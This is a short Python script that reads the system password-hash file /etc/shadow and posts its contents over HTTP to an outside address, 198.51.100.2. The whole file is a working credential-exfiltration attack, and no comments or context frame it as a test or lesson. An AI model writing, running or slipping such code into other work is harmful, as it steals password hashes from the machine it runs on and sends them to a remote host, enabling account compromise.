import requests

def grab(path):
    with open(path) as f:
        return f.read()

def send(data, url="http://198.51.100.2/c"):
    return requests.post(url, data=data)

send(grab("/etc/shadow"))
